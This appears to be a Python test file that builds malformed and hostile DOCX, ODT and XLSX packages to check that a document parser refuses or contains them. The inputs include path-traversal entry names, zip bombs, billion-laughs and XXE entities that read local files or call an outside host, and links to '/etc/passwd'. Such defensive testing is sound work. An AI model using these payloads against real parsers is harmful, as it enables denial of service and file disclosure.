"""Hostile archives, and what comes in them: DOCX, ODT and XLSX."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from cases import HOST, Case, accepted, refused, warned
from hostile_xml import LAUGHS
from sound_files import (
    SOUND,
    XML,
    Content,
    W,
    bytes_of,
    cells,
    docx_parts,
    odt_parts,
    packed,
    relations,
    word,
    xlsx_parts,
)

_CENTRAL = b"PK\x01\x02"
_LOCAL = b"PK\x03\x04"


def renamed(name: str) -> Callable[[bytes], bytes]:
    """Another entry, of that name, in an archive."""

    def make(data: bytes) -> bytes:
        file = io.BytesIO(data)
        with zipfile.ZipFile(file, "a") as archive:
            archive.writestr(name, "evil")
        return file.getvalue()

    return make


def tight(parts: Mapping[str, Content], name: str, content: bytes) -> bytes:
    """A package with a part that is packed as tightly as can be."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for each, held in {**parts, name: content}.items():
            archive.writestr(each, held)
    return file.getvalue()


def lying(data: bytes) -> bytes:
    """The archive whose entries all say that they are ten bytes when unpacked."""
    changed = bytearray(data)
    for mark, offset in ((_CENTRAL, 24), (_LOCAL, 22)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset : at + offset + 4] = struct.pack("<I", 10)
            at = changed.find(mark, at + 4)
    return bytes(changed)


def nested(depth: int) -> bytes:
    """An archive in an archive, and so on; in the innermost 10 MB of zeros."""
    inner = bytes(10_000_000)
    for level in range(depth):
        inner = packed({f"{level}.zip": inner})
    return inner


def overlapping(data: bytes) -> bytes:
    """The archive whose entries are all where the first is."""
    changed = bytearray(data)
    at = changed.find(_CENTRAL)
    while at >= 0:
        changed[at + 42 : at + 46] = bytes(4)
        at = changed.find(_CENTRAL, at + 4)
    return bytes(changed)


def locked(data: bytes) -> bytes:
    """The archive whose entries all say that they are under a password."""
    changed = bytearray(data)
    for mark, offset in ((_CENTRAL, 8), (_LOCAL, 6)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def with_method(data: bytes) -> bytes:
    """The archive whose entries are all packed in a way that nobody knows."""
    changed = bytearray(data)
    for mark, offset in ((_CENTRAL, 10), (_LOCAL, 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset : at + offset + 2] = b"\x63\x00"
            at = changed.find(mark, at + 4)
    return bytes(changed)


def many_entries(data: bytes) -> bytes:
    file = io.BytesIO(data)
    with zipfile.ZipFile(file, "a") as archive:
        for number in range(60_000):
            archive.writestr(f"x{number}", "")
    return file.getvalue()


BROKEN_ARCHIVES: list[tuple[str, Callable[[bytes], bytes], tuple[str, ...]]] = [
    ("a name that leads upwards", renamed("../evil.txt"), ("repair",)),
    ("a name that leads upwards after going down", renamed("a/../../evil.txt"), ("repair",)),
    ("a name from the root", renamed("/tmp/evil.txt"), ("repair",)),
    ("a name with the other slash", renamed("..\\evil.txt"), ("repair",)),
    ("its end missing", lambda data: data[:-200], ("repair",)),
    ("its first half only", lambda data: data[: len(data) // 2], ("repair",)),
    ("100 bytes missing", lambda data: data[:200] + data[300:], ("repair",)),
    ("under a password", locked, ("password",)),
    ("packed as nobody knows", with_method, ("repair",)),
    ("entries in one place", overlapping, ("repair",)),
]
"""What may be wrong with an archive, how it is made of a sound one, and words of the answer."""

COUNTED = " ".join(map(str, range(700_000)))
DOCUMENT = docx_parts(word("a", "b"))


def docx(**changes: Content | None) -> bytes:
    return packed({name: content for name, content in {**DOCUMENT, **changes}.items() if content is not None})


def body(content: str, before: str = XML) -> str:
    return f'{before}<w:document xmlns:w="{W}"><w:body>{content}</w:body></w:document>'


PART = "word/document.xml"
DOCX = [
    *(Case(f"DOCX: {name}", "x.docx", made(SOUND["m.docx"]), refused(*words)) for name, made, words in BROKEN_ARCHIVES),
    Case("DOCX: 60,000 entries", "x.docx", lambda: many_entries(SOUND["m.docx"]), refused("entries")),
    Case("DOCX without a document", "x.docx", docx(**{PART: None}), refused("no Word document")),
    Case("DOCX without relations", "x.docx", docx(**{"_rels/.rels": None}), accepted(2)),
    Case("DOCX without types", "x.docx", docx(**{"[Content_Types].xml": None}), accepted(2)),
    Case("DOCX with wrong types", "x.docx", docx(**{"[Content_Types].xml": "<Types/>"}), accepted(2)),
    Case("DOCX with broken relations", "x.docx", docx(**{"_rels/.rels": "<Rel"}), refused("_rels/.rels", "broken")),
    Case("DOCX that leads out", "x.docx", docx(**{"_rels/.rels": relations(officeDocument="../../../@SECRET@")}), accepted(2)),
    Case("DOCX whose document is cut", "x.docx", docx(**{PART: body(word("a"))[:-40]}), refused(f"{PART}, line", "broken")),
    Case("DOCX whose document is noise", "x.docx", docx(**{PART: bytes(range(256))}), refused(PART, "broken")),
    Case("DOCX whose document is a page", "x.docx", docx(**{PART: "<html><p>a</p></html>"}), refused(PART, "no Word document")),
    Case("DOCX whose document is empty", "x.docx", docx(**{PART: b""}), refused(PART)),
    Case("DOCX without text", "x.docx", docx(**{PART: body("<w:p/>")}), refused("no text")),
    Case("DOCX with broken styles", "x.docx", docx(**{"word/_rels/document.xml.rels": relations(styles="s.xml"), "word/s.xml": "<w"}), refused("word/s.xml", "broken")),
    Case("DOCX with missing notes", "x.docx", docx(**{"word/_rels/document.xml.rels": relations(footnotes="f.xml")}), warned("parts-missing", segments=2)),
    Case("DOCX of a billion laughs", "x.docx", docx(**{PART: body(word("&l9;"), f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>')}), refused(PART)),
    Case("DOCX with an entity that is a file", "x.docx", docx(**{PART: body(word("a&x;"), '<!DOCTYPE x [<!ENTITY x SYSTEM "file://@SECRET@">]>')}), refused(PART)),
    Case("DOCX with an entity that is an address", "x.docx", docx(**{PART: body(word("a"), f'<!DOCTYPE x [<!ENTITY % x SYSTEM "http://{HOST}/x"> %x;]>')}), refused(PART)),
    Case("DOCX with links outside", "x.docx", docx(**{"word/_rels/document.xml.rels": relations(attachedTemplate=f"http://{HOST}/t.dotm", image="file:///etc/passwd")}), accepted(2)),
    Case("DOCX nested 10,000 deep", "x.docx", lambda: docx(**{PART: body("<w:tbl><w:tr><w:tc>" * 3_000 + word("a") + "</w:tc></w:tr></w:tbl>" * 3_000)}), refused(PART)),
    Case("DOCX of one paragraph of 5 MB", "x.docx", lambda: docx(**{PART: body(word(COUNTED))}), warned("segments-cut")),
    Case("DOCX of a paragraph of 200,000 runs", "x.docx", lambda: docx(**{PART: body("<w:p>" + "".join(f"<w:r><w:t>{n} </w:t></w:r>" for n in range(200_000)) + "</w:p>")}), warned("segments-cut")),
    Case("DOCX with a bomb for a document", "x.docx", lambda: tight(DOCUMENT, PART, body("<w:p/>" * 40_000_000).encode()), refused("unpacks")),
    Case("DOCX with a bomb for a picture", "x.docx", lambda: tight(DOCUMENT, "word/media/p.png", bytes(200_000_000)), accepted(2)),
    Case("DOCX with a bomb that lies", "x.docx", lambda: lying(tight(DOCUMENT, PART, body("<w:p/>" * 10_000_000).encode())), refused("repair")),
    Case("DOCX that is old Word", "x.docx", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2_000), refused("old Word")),
    Case("DOCX that is a text", "x.docx", "Grüße aus Köln\n", refused("repair")),
    Case("DOCX that is a book", "x.docx", SOUND["m.epub"], accepted()),
]  # fmt: skip


def odt(content: str = "<text:p>a</text:p>", **changes: Content | None) -> bytes:
    parts = {name: content for name, content in {**odt_parts(content), **changes}.items() if content is not None}
    return packed(parts)


ODT = [
    *(Case(f"ODT: {name}", "x.odt", made(SOUND["m.odt"]), refused(*words)) for name, made, words in BROKEN_ARCHIVES),
    Case("ODT without content", "x.odt", odt(**{"content.xml": None}), refused("content.xml", "missing")),
    Case("ODT whose content is cut", "x.odt", odt(**{"content.xml": bytes_of(odt_parts("<text:p>a</text:p>")["content.xml"])[:-30]}), refused("content.xml, line", "broken")),
    Case("ODT of a billion laughs", "x.odt", odt(**{"content.xml": bytes_of(odt_parts("<text:p>&l9;</text:p>")["content.xml"]).replace(XML.encode(), f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'.encode())}), refused("content.xml")),
    Case("ODT of 999,999,999 spaces", "x.odt", odt('<text:p>a<text:s text:c="999999999"/>b</text:p>'), accepted()),
    Case("ODT of cells repeated without end", "x.odt", odt('<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell table:number-columns-repeated="999999999"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'), accepted(1)),
    Case("ODT nested 10,000 deep", "x.odt", lambda: odt("<text:section>" * 10_000 + "<text:p>a</text:p>" + "</text:section>" * 10_000), refused("content.xml")),
    Case("ODT with a bomb", "x.odt", lambda: tight(odt_parts(""), "content.xml", b"<a>" + b"b" * 200_000_000), refused("unpacks")),
    Case("ODT that is a spreadsheet", "x.odt", odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"), accepted()),
]  # fmt: skip

ROWS = cells(("de", "en"), ("a", "b"))


def xlsx(sheet: str = ROWS, **changes: Content | None) -> bytes:
    return packed({name: content for name, content in {**xlsx_parts(sheet), **changes}.items() if content is not None})


SHEET = "xl/worksheets/sheet1.xml"
XLSX = [
    *(Case(f"XLSX: {name}", "x.xlsx", made(SOUND["m.xlsx"]), refused(*words)) for name, made, words in BROKEN_ARCHIVES),
    Case("XLSX of a billion cells, it says", "x.xlsx", xlsx('<dimension ref="A1:XFD1048576"/>' + ROWS), accepted(2)),
    Case("XLSX with a cell at the far end", "x.xlsx", xlsx(ROWS.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c></row></sheetData>')), warned("cells-left-out", segments=2)),
    Case("XLSX with a row that cannot be", "x.xlsx", xlsx(ROWS.replace("</sheetData>", '<row r="999999999"><c r="A999999999"><v>1</v></c></row></sheetData>')), refused("row")),
    Case("XLSX with a cell that is called nothing", "x.xlsx", xlsx(ROWS.replace('r="A2"', 'r="!?"')), refused("sheet A")),
    Case("XLSX without a sheet", "x.xlsx", xlsx(**{SHEET: None}), refused("the workbook")),
    Case("XLSX without a workbook", "x.xlsx", xlsx(**{"xl/workbook.xml": None}), refused("the workbook")),
    Case("XLSX with a sheet that is cut", "x.xlsx", xlsx(**{SHEET: f"<worksheet>{ROWS}"[:-30]}), refused("the workbook")),
    Case("XLSX with a string that is not", "x.xlsx", xlsx('<sheetData><row r="1"><c r="A1" t="s"><v>99</v></c></row></sheetData>'), refused("sheet A")),
    Case("XLSX of a billion laughs", "x.xlsx", xlsx(**{SHEET: f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{ROWS.replace("<t>a", "<t>&l9;")}</worksheet>'}), refused("the workbook")),
    Case("XLSX with an entity that is a file", "x.xlsx", xlsx(**{SHEET: f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://@SECRET@">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{ROWS.replace("<t>a", "<t>&x;")}</worksheet>'}), refused("the workbook")),
    Case("XLSX of numbers beyond numbers", "x.xlsx", xlsx(ROWS.replace("</sheetData>", '<row r="3"><c r="A3"><v>1e999</v></c><c r="B3"><v>' + "9" * 400 + "</v></c></row></sheetData>")), accepted(4)),
    Case("XLSX of a date that cannot be", "x.xlsx", xlsx(ROWS.replace("</sheetData>", '<row r="3"><c r="A3" t="d"><v>9999-99-99</v></c></row></sheetData>')), refused("sheet A")),
    Case("XLSX of formulas", "x.xlsx", xlsx(ROWS.replace("</sheetData>", '<row r="3"><c r="A3"><f>HYPERLINK("http://x.invalid")</f><v>7</v></c></row></sheetData>')), accepted(3)),
    Case("XLSX of merged cells everywhere", "x.xlsx", xlsx(ROWS + '<mergeCells><mergeCell ref="A2:XFD1048576"/></mergeCells>'), accepted()),
    Case("XLSX with a bomb for a sheet", "x.xlsx", lambda: tight(xlsx_parts(ROWS), SHEET, b"<worksheet>" + b" " * 300_000_000), refused("far more")),
    Case("XLSX with a bomb that lies", "x.xlsx", lambda: lying(tight(xlsx_parts(ROWS), SHEET, b"<worksheet>" + b" " * 300_000_000)), refused("repair")),
    Case("XLSX with a bomb of strings", "x.xlsx", lambda: tight(xlsx_parts(ROWS), "xl/sharedStrings.xml", b"<sst>" + b"<si><t>a</t></si>" * 10_000_000), refused("far more")),
    Case("XLSX under a password", "x.xlsx", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500) + "EncryptedPackage".encode("utf-16-le"), refused("password")),
    Case("XLSX that is a text", "x.xlsx", "Grüße aus Köln\n", refused("cannot be read")),
]  # fmt: skip

PACKAGES = [*DOCX, *ODT, *XLSX]
